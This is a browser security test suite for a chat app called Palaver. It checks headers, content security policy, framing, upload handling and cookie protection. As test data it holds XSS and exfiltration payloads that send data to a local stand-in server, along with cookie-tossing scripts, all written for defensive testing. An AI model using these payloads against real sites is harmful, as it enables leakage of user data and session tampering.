// What a browser must be safe from: foreign servers, uploaded pages, frames, slipped-in cookies. See `scenarios.mjs`.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, request as ask } from 'node:http';
import { createServer as createTls } from 'node:https';

import { begin, chooseOf, settled, violations } from './page.mjs';

const QUICK = 'fake/fake-n5-d1';
const HOST = '__Host-palaver_session';
const PLAIN = 'palaver_session';

/** A server of somebody else's, for as long as `use` takes; it keeps what it was asked, and every connection. */
async function elsewhere(use, page = '<!doctype html><title>Elsewhere</title>') {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(request.url);
    response.setHeader('content-type', 'text/html');
    response.setHeader('access-control-allow-origin', '*');
    response.end(page);
  });
  server.on('connection', () => heard.push('a connection'));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  try {
    await use(`http://127.0.0.1:${server.address().port}`, heard);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

/** Collects what the browser refuses on these pages, and what it warns of. */
function watch(context) {
  const told = [];
  context.on('console', message => ['error', 'warning'].includes(message.type()) && told.push(message.text()));
  return told;
}

/** The directives of a policy, by name. */
const directives = policy =>
  Object.fromEntries(
    policy.split(';').map(part => {
      const [name, ...values] = part.trim().split(/\s+/);
      return [name, values.join(' ')];
    }),
  );

const EVERYWHERE = {
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
  'cross-origin-resource-policy': 'same-origin',
};

const PAGES = {
  'x-frame-options': 'DENY',
  'cross-origin-opener-policy': 'same-origin',
  'x-dns-prefetch-control': 'off',
};

function guarded(path, response, { isPage }) {
  const headers = response.headers();
  for (const [name, value] of Object.entries({ ...EVERYWHERE, ...(isPage ? PAGES : {}) })) {
    assert.equal(headers[name], value, `${path}: ${name}`);
  }
  const policy = directives(headers['content-security-policy']);
  assert.equal(policy['default-src'], "'none'", path);
  assert.equal(policy['frame-ancestors'], "'none'", path);
  for (const name of ['script-src', 'style-src', 'style-src-elem']) {
    assert.doesNotMatch(policy[name] ?? '', /unsafe|'self'|\*|https?:|data:|blob:/, `${path}: ${name}`);
  }
  if (isPage) {
    assert.match(headers['permissions-policy'], /camera=\(\).*geolocation=\(\).*microphone=\(\)/, path);
    assert.equal(policy['object-src'] ?? policy['default-src'], "'none'", path);
    assert.equal(policy['base-uri'], "'none'", path);
    assert.equal(policy['form-action'], "'none'", path);
  }
  assert.equal(headers['strict-transport-security'], undefined, `${path}: this is no https`);
  assert.equal(headers['server'], undefined, path);
  assert.equal(headers['x-powered-by'], undefined, path);
  return policy;
}

export async function find_every_page_guarded({ open }) {
  const context = await open();
  const told = watch(context);
  const page = await context.newPage();
  const nonces = new Set();
  for (const path of ['/', '/c/ses_0', '/docs', '/redoc']) {
    const response = await page.goto(path);
    const policy = guarded(path, response, { isPage: true });
    assert.match(policy['script-src'], /^'nonce-[\w-]{20,}'$/, path);
    nonces.add(policy['script-src']);
    if (path === '/') {
      assert.equal(policy['require-trusted-types-for'], "'script'");
      assert.equal(policy['style-src'], policy['script-src']);
    }
    await page
      .locator('.composer, .foot-hint, .home, .opblock-tag, openapi-explorer')
      .first()
      .waitFor({ timeout: 45_000 });
    if (path === '/redoc')
      await page.getByText('Ask, and get the finished message').first().waitFor({ timeout: 45_000 });
  }
  assert.equal(nonces.size, 4, 'a number for each answer');
  // The browser says where a policy names what it does not know, where something is refused, where content is mixed.
  const noise = /status of 404/;
  assert.deepEqual(
    told.filter(one => !noise.test(one)),
    [],
  );
  for (const path of ['/nowhere', '/api/v1/nowhere', '/api/v1/config', '/openapi.json', '/assets/gone.js']) {
    guarded(path, await page.goto(path), { isPage: false });
    // What is no page has no origin of ours, even where somebody opens it in a tab.
    assert.equal(await page.evaluate(() => self.origin), 'null', path);
  }
}

export async function refuse_what_is_slipped_into_the_page({ open }) {
  const page = await (await open({ refuses: true })).newPage();
  await page.goto('/');
  await page.getByLabel('Your message').waitFor();
  const tried = await page.evaluate(async () => {
    const refused = [];
    const formRefused = new Promise(resolve =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective: directive }) => {
        refused.push(directive);
        if (directive === 'form-action') resolve();
      }),
    );
    const attempt = deed => {
      try {
        deed();
      } catch (error) {
        refused.push(error.name);
      }
    };
    attempt(() => (document.body.innerHTML += '<img src=x onerror="window.ran=1">'));
    attempt(() => document.createElement('script').setAttribute('src', '/assets/x.js'));
    attempt(() => (document.createElement('script').src = '/assets/x.js'));
    attempt(() => window.trustedTypes.createPolicy('mine', {}));
    attempt(() => window.trustedTypes.createPolicy('palaver', {}));
    const link = document.createElement('link');
    Object.assign(link, { rel: 'stylesheet', href: '/assets/x.css' });
    document.head.append(link);
    const frame = document.createElement('iframe');
    frame.src = '/docs';
    document.body.append(frame);
    const object = document.createElement('object');
    attempt(() => (object.data = '/docs'));
    object.setAttribute('type', 'text/html');
    document.body.append(object);
    const form = document.createElement('form');
    form.action = '/api/v1/auth/logout';
    document.body.append(form);
    form.submit();
    await formRefused;
    return { refused, ran: window.ran, here: location.pathname };
  });
  assert.equal(tried.ran, undefined);
  assert.equal(tried.here, '/');
  const count = name => tried.refused.filter(one => one === name).length;
  assert.ok(count('TypeError') >= 4, tried.refused.join());
  for (const directive of ['style-src-elem', 'frame-src', 'form-action']) {
    assert.ok(count(directive) > 0, `${directive}: ${tried.refused.join()}`);
  }
}

export async function stand_in_no_frame_and_have_no_opener({ open }) {
  const { PALAVER_URL: ours } = process.env;
  const framing = `<!doctype html><title>Elsewhere</title>
    <iframe id="a" src="${ours}/"></iframe><iframe id="b" src="${ours}/docs"></iframe>
    <iframe id="c" src="${ours}/api/v1/config"></iframe>`;
  await elsewhere(async origin => {
    const context = await open({ also: origin, refuses: true });
    const page = await context.newPage();
    const refused = [];
    page.on(
      'console',
      message => /frame-ancestors|X-Frame-Options/.test(message.text()) && refused.push(message.text()),
    );
    await page.goto(origin);
    await page.waitForLoadState();
    for (const frame of page.frames().slice(1)) {
      assert.equal(await frame.locator('#app, #api').count(), 0);
      assert.doesNotMatch(frame.url(), new RegExp(ours), 'an error page stands there');
    }
    assert.equal(refused.length, 3);
    const opening = context.waitForEvent('page');
    await page.evaluate(place => void (window.theirs = window.open(place)), ours);
    const opened = await opening;
    await opened.getByLabel('Your message').waitFor();
    assert.equal(await opened.evaluate(() => window.opener), null);
    assert.equal(await page.evaluate(() => window.theirs.closed), true, 'neither holds the other');
    // Another page reads nothing of ours, and changes nothing, though the browser would send the cookie.
    const read = await page.evaluate(
      place => fetch(`${place}/api/v1/auth/me`, { credentials: 'include' }).then(String, error => error.name),
      ours,
    );
    assert.equal(read, 'TypeError');
  }, framing);
}

const HOSTILE = origin => `
![what you said](${origin}/image?words=secret)
![][ref] ![x](//${origin.slice(7)}/no-scheme) [![in a link](${origin}/linked)](${origin}/followed)

<img src="${origin}/raw"><svg><image href="${origin}/svg"/><use href="${origin}/use#a"/></svg>
<link rel="stylesheet" href="${origin}/css"><link rel="prefetch" href="${origin}/prefetch">
<link rel="dns-prefetch" href="${origin}"><link rel="preconnect" href="${origin}">
<style>@import url("${origin}/import"); body { background: url("${origin}/background") }</style>
<iframe src="${origin}/frame"></iframe><object data="${origin}/object"></object><embed src="${origin}/embed">
<video poster="${origin}/poster" src="${origin}/video"></video><audio src="${origin}/audio" autoplay></audio>
<meta http-equiv="refresh" content="0;url=${origin}/refresh"><base href="${origin}/">
<script src="${origin}/script"></script><input type="image" src="${origin}/input">
<p style="background:url(${origin}/style)">style</p><a href="${origin}/ping" ping="${origin}/pinged">ping</a>

[a harmless word](${origin}/link?words=secret) <${origin}/auto> ${origin}/plain

| a | b |
|---|---|
| ![cell](${origin}/cell) | <img src=${origin}/cell2> |

\`\`\`html
<img src="${origin}/code">
\`\`\`

[ref]: ${origin}/reference
`;

/** A conversation in which everything that somebody else can have written names the foreign server. */
async function hostileConversation(page, origin) {
  return page.evaluate(
    async ([id, words, foreign]) => {
      const json = { 'content-type': 'application/json' };
      const whole = await (await fetch(`/api/v1/sessions/${id}/export?format=json`)).json();
      const session = Array.isArray(whole) ? whole[0] : whole;
      session.title = `<img src="${foreign}/title">`;
      for (const message of session.messages) {
        message.parts = [{ type: 'text', text: words }];
        if (message.role === 'user') continue;
        message.parts.unshift(
          { type: 'reasoning', text: words },
          { type: 'tool_call', call_id: 'call_1', name: 'mcp__notes__read', arguments: { page: words } },
          {
            type: 'tool_result',
            call_id: 'call_1',
            ok: true,
            content: words,
            parts: [
              { type: 'image', url: `${foreign}/result.png` },
              { type: 'file', name: words.slice(0, 90), path: 'picture.svg' },
            ],
          },
        );
        message.parts.push({ type: 'image', url: `${foreign}/part.png` });
      }
      const body = JSON.stringify(whole);
      const reply = await fetch('/api/v1/sessions/import', { method: 'POST', headers: json, body });
      const told = await reply.json();
      if (!reply.ok) throw new Error(JSON.stringify(told));
      return told.sessions?.[0]?.id ?? told.items?.[0]?.id ?? told.session_ids?.[0];
    },
    [new URL(page.url()).pathname.split('/').at(-1), HOSTILE(origin), origin],
  );
}

const FILES = origin => ({
  'page.html': `<!doctype html><img src="${origin}/html"><script>fetch("${origin}/ran")</script>`,
  'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${origin}/inner"/>
    <script>fetch("${origin}/svg-ran")</script><style>@import url("${origin}/svg-css");</style></svg>`,
  'sheet.css': `@import url("${origin}/sheet");`,
  'paper.pdf': '%PDF-1.4 not much of a document',
  'notes.md': HOSTILE(origin),
});

async function bring(page, session, files) {
  await page.evaluate(
    async ([id, contents]) => {
      for (const [name, text] of Object.entries(contents)) {
        const reply = await fetch(`/api/v1/sessions/${id}/files/${name}`, { method: 'PUT', body: text });
        if (!reply.ok) throw new Error(await reply.text());
      }
    },
    [session, files],
  );
}

export async function tell_no_foreign_server_anything({ open }) {
  await elsewhere(async (origin, heard) => {
    const page = await (await open({ reducedMotion: 'reduce' })).newPage();
    await begin(page, QUICK, 'Begin');
    await settled(page);
    const session = await hostileConversation(page, origin);
    await bring(page, session, FILES(origin));
    await page.goto(`/c/${session}`);
    const answer = page.locator('.answer').last();
    await answer.locator('table').last().waitFor();
    // Everything that can be opened is opened.
    for (const details of await page.locator('details').all()) await details.evaluate(one => (one.open = true));
    assert.equal(await page.locator(`[src*="${origin}"], [srcset], [ping], [poster], [style*=url]`).count(), 0);
    assert.equal(
      await page.locator('.markdown :is(iframe, object, embed, video, audio, svg, style, script)').count(),
      0,
    );
    const links = await page
      .locator(`a[href^="${origin}"]`)
      .evaluateAll(all =>
        all.map(({ target, rel, dataset, textContent }) => ({ target, rel, host: dataset.host, textContent })),
      );
    assert.ok(links.length >= 8);
    for (const { target, rel, host, textContent } of links) {
      assert.equal(target, '_blank');
      assert.match(rel, /noopener noreferrer/);
      assert.ok(host === origin.slice(7) || textContent.startsWith(origin), `${textContent} says where it leads`);
    }
    const shown = await page
      .locator('a', { hasText: 'a harmless word' })
      .last()
      .evaluate(one => getComputedStyle(one, '::after').content);
    assert.ok(shown.includes(origin.slice(7)) || shown.includes('attr(data-host)'), shown);
    await page.getByRole('button', { name: 'Files of this conversation' }).click();
    const panel = page.getByRole('dialog', { name: 'Files' });
    for (const name of Object.keys(FILES(origin))) {
      const row = panel.getByRole('listitem').filter({ has: page.getByRole('button', { name, exact: true }) });
      await row.getByRole('button', { name, exact: true }).click();
      await row.locator('pre, img, p.hint').first().waitFor();
      await row.getByText('Loading…').waitFor({ state: 'detached' });
    }
    await page.keyboard.press('Escape');
    await page.reload();
    await answer.locator('table').last().waitFor();
    await readByALink(page, session, await (await open({ fresh: true })).newPage());
    assert.deepEqual(heard, []);
  });
}

/** Makes a link in the session's menu, and opens it as somebody who has no account. */
async function readByALink(page, session, guest) {
  await chooseOf(page, 'More about this conversation', 'Share by a link');
  const panel = page.getByRole('dialog', { name: 'Share by a link' });
  for (const shown of ['tools were asked', 'models thought']) await panel.getByLabel(shown).click();
  assert.deepEqual(await violations(page), []);
  await panel.getByRole('button', { name: 'Make a link' }).press('Enter');
  const link = await panel.locator('.said-so').textContent();
  const response = await guest.goto(new URL(link, page.url()).pathname);
  const policy = guarded('shared', response, { isPage: true });
  assert.equal(policy['script-src'] ?? policy['default-src'], "'none'");
  assert.match(response.headers()['x-robots-tag'], /noindex/);
  await guest.getByText('a harmless word').first().waitFor();
  const loading = 'script, iframe, object, embed, video, audio, link[href^=http], img[src^=http], [ping], [srcset]';
  assert.equal(await guest.locator(loading).count(), 0);
  const links = await guest.locator('a[href^=http]').evaluateAll(all => all.map(one => one.rel));
  assert.ok(
    links.every(rel => /noopener/.test(rel) && /noreferrer/.test(rel)),
    links.join(),
  );
  assert.equal((await guest.context().cookies()).length, 0);
  await panel.getByRole('button', { name: 'Revoke' }).press('Enter');
  await panel.getByRole('list', { name: 'Links that hold' }).getByRole('listitem').waitFor({ state: 'detached' });
  assert.equal((await guest.reload()).status(), 404);
  await page.keyboard.press('Escape');
}

export async function run_nothing_that_was_uploaded({ open }) {
  await elsewhere(async (origin, heard) => {
    const context = await open();
    const page = await context.newPage();
    await begin(page, QUICK, 'Begin');
    await settled(page);
    const session = new URL(page.url()).pathname.split('/').at(-1);
    const script = '<script>document.cookie="ran=1";fetch("/api/v1/auth/me")</script>';
    const files = {
      ...FILES(origin),
      'own.html': script,
      'own.svg': `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
    };
    await bring(page, session, files);
    for (const name of Object.keys(files)) {
      const place = `/api/v1/sessions/${session}/files/${name}`;
      const { headers, type } = await page.evaluate(async path => {
        const reply = await fetch(path);
        return { headers: Object.fromEntries(reply.headers), type: reply.headers.get('content-type') };
      }, place);
      assert.match(headers['content-disposition'], /^attachment/, name);
      assert.match(headers['content-security-policy'], /sandbox/, name);
      assert.match(headers['x-content-type-options'], /^nosniff/);
      assert.doesNotMatch(type, /html|svg|xml|javascript|css/, name);
      // Opened in a tab it is saved, and nothing of it is shown.
      const tab = await context.newPage();
      const saved = tab.waitForEvent('download');
      await tab.goto(place).catch(() => {});
      await (await saved).cancel();
      assert.equal(tab.url(), 'about:blank');
      await tab.close();
    }
    // Neither as a script or style of the page, where somebody could slip in an element with the page's own number.
    const ran = await page.evaluate(async path => {
      const style = document.createElement('link');
      style.nonce = document.querySelector('script').nonce;
      Object.assign(style, { rel: 'stylesheet', href: path });
      const done = new Promise(resolve => {
        style.onload = () => resolve('loaded');
        style.onerror = () => resolve('refused');
      });
      document.head.append(style);
      return done;
    }, `/api/v1/sessions/${session}/files/sheet.css`);
    assert.equal(ran, 'refused');
    assert.ok(!(await context.cookies()).some(cookie => cookie.name === 'ran'));
    assert.deepEqual(heard, []);
  });
}

/** Ends TLS before Palaver, as a proxy does that it trusts. */
async function behindTls(use) {
  const { PALAVER_URL, TLS_CERTIFICATE, TLS_KEY } = process.env;
  const inner = new URL(PALAVER_URL);
  const keys = { cert: readFileSync(TLS_CERTIFICATE), key: readFileSync(TLS_KEY) };
  const server = createTls(keys, (request, response) => {
    const headers = { ...request.headers, 'x-forwarded-proto': 'https', 'x-forwarded-for': '203.0.113.7' };
    const onward = { host: inner.hostname, port: inner.port, method: request.method, path: request.url, headers };
    const passed = ask(onward, answer => {
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    passed.on('error', () => response.destroy());
    request.pipe(passed);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  try {
    await use(`https://127.0.0.1:${server.address().port}`);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

const signIn = async (page, said) => {
  await page.getByLabel('Email').fill(said.email);
  await page.getByLabel('Password').fill(said.password);
  await page.keyboard.press('Enter');
  await page.getByLabel('Your message').waitFor();
};

const named = async (context, name) => (await context.cookies()).filter(cookie => cookie.name === name);
const me = page => page.evaluate(() => fetch('/api/v1/auth/me').then(reply => reply.status));

export async function keep_the_cookie_of_this_host_alone({ open }) {
  const ada = { email: 'host@example.org', password: 'correct horse battery staple' };
  await behindTls(async secure => {
    const context = await open({ fresh: true, also: secure, ignoreHTTPSErrors: true });
    const told = watch(context);
    const page = await context.newPage();
    const response = await page.goto(secure);
    assert.match(response.headers()['strict-transport-security'], /^max-age=31536000$/);
    await signIn(page, ada);
    assert.deepEqual(await named(context, PLAIN), []);
    const [cookie] = await named(context, HOST);
    const { domain, path, httpOnly, secure: marked, sameSite } = cookie;
    assert.deepEqual([domain, path, httpOnly, marked, sameSite], ['127.0.0.1', '/', true, true, 'Lax']);
    assert.equal(await page.evaluate(() => document.cookie), '');

    // A page without TLS cannot write it: not under its own name, and the plain one counts for nothing.
    const plain = await context.newPage();
    await plain.goto('/');
    await plain.evaluate(
      ([host, other]) => {
        document.cookie = `${host}=tossed; path=/`;
        document.cookie = `${host}=tossed; path=/; secure`;
        document.cookie = `${other}=tossed; path=/`;
      },
      [HOST, PLAIN],
    );
    assert.equal((await named(context, HOST))[0].value, cookie.value);
    assert.equal((await named(context, PLAIN)).length, 1);
    assert.equal(await me(page), 200);
    await page.reload();
    await page.getByText(ada.email).waitFor();

    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByLabel('Email').waitFor();
    assert.deepEqual([...(await named(context, HOST)), ...(await named(context, PLAIN))], []);
    assert.equal(await me(page), 401);
    assert.deepEqual(
      told.filter(one => !/status of 401/.test(one)),
      [],
    );
  });
}
